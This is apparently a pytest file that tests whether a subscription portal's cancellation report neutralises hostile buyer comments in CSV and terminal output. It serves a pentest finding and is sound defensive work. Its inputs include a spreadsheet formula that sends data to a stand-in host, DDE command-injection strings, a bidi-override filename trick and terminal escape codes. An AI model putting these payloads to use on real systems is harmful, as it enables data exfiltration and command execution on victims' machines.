"""cancellation-report hands buyer text to spreadsheets and terminals (pentest item 6).

Comments stored before the input rule (or by a provider's sync) are written straight to
the store here, bypassing it: the report must neutralise them on its own.
"""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path

import attrs
import pytest

from waffo_portal import SubscriptionStatus
from waffo_portal.cli import main
from waffo_portal.core.models import Cancellation
from waffo_portal.stores.sql import SqlStore

from . import portal_under_test

APP = "tests.cli.portal_under_test:build"
REPORT = ["--app", APP, "cancellation-report", "--since", "2026-01-01", "--until",
          "2026-12-31"]


@pytest.fixture(autouse=True)
def database(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    path = tmp_path / "cli.db"
    monkeypatch.setenv("CLI_TEST_DB", str(path))
    portal_under_test.build()  # seeds sub_1
    return path


def _store_comment(comment: str) -> None:
    """An old row: saved without passing the cancel form's rule."""
    store = SqlStore.from_url(f"sqlite:///{os.environ['CLI_TEST_DB']}")
    sub = store.get_subscription("sub_1")
    assert sub is not None
    cancellation = Cancellation(None, comment, portal_under_test.NOW, sub.current_period_end)
    store.save_subscription(attrs.evolve(sub, status=SubscriptionStatus.CANCELING,
                                         cancellation=cancellation))


def _csv_records(capsys: pytest.CaptureFixture[str]) -> list[list[str]]:
    assert main([*REPORT, "--format", "csv"]) == 0
    return list(csv.reader(io.StringIO(capsys.readouterr().out)))


def _table(capsys: pytest.CaptureFixture[str]) -> str:
    assert main(REPORT) == 0
    return capsys.readouterr().out


def test_a_hyperlink_formula_from_the_cancel_form_is_inert_in_csv(
        capsys: pytest.CaptureFixture[str]) -> None:
    formula = '=HYPERLINK("https://evil.example/?d="&A1,"Click for refund")'
    portal_under_test.build().cancel_subscription(
        "buyer_1", "sub_1", reason="too_expensive", comment=formula,
        idempotency_key="cli-inject-key-0001")
    records = _csv_records(capsys)
    assert len(records) == 2 and records[1][4] == "'" + formula


@pytest.mark.parametrize("comment", [
    "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "   =1+1", "\u3000=1+1", "\n=1+1",
])
def test_formula_leading_cells_start_with_an_apostrophe(
        comment: str, capsys: pytest.CaptureFixture[str]) -> None:
    _store_comment(comment)
    cell = _csv_records(capsys)[1][4]
    assert cell.startswith("'")
    assert "\t" not in cell and "\r" not in cell  # escaped, shown as \t and \r


def test_ordinary_comments_are_left_alone_in_csv(capsys: pytest.CaptureFixture[str]) -> None:
    _store_comment("Too pricey: 3 = too many, 2+2 & 'quotes' — 価格")
    assert _csv_records(capsys)[1][4] == "Too pricey: 3 = too many, 2+2 & 'quotes' — 価格"


def test_a_newline_is_one_csv_record_and_one_table_row(
        capsys: pytest.CaptureFixture[str]) -> None:
    forged = "2026-02-09  [too_expensive]  forged row"
    _store_comment(f"first line\r\n{forged}\nthird, with a comma")
    records = _csv_records(capsys)
    assert len(records) == 2
    assert records[1][4] == f"first line\n{forged}\nthird, with a comma"
    lines = _table(capsys).splitlines()
    comments = lines[lines.index("Comments:") + 1:]
    assert len(comments) == 1
    assert comments[0].endswith(f"first line⏎{forged}⏎third, with a comma")


def test_a_bidi_override_in_stored_data_is_escaped_in_the_table(
        capsys: pytest.CaptureFixture[str]) -> None:
    _store_comment("refund to invoice_\u202egnp.exe\u2066x\u2069")
    table = _table(capsys)
    assert not {"\u202e", "\u2066", "\u2069"} & set(table)
    assert "invoice_\\u202egnp.exe\\u2066x\\u2069" in table
    assert "\u202e" not in _csv_records(capsys)[1][4]


def test_terminal_controls_in_stored_data_are_escaped_in_the_table(
        capsys: pytest.CaptureFixture[str]) -> None:
    _store_comment("ok\x1b[2J\x07\x85\u2028\x7fdone")
    table = _table(capsys)
    assert "ok\\x1b[2J\\x07\\x85\\u2028\\x7fdone" in table
    assert not {"\x1b", "\x07", "\x85", "\u2028", "\x7f"} & set(table)
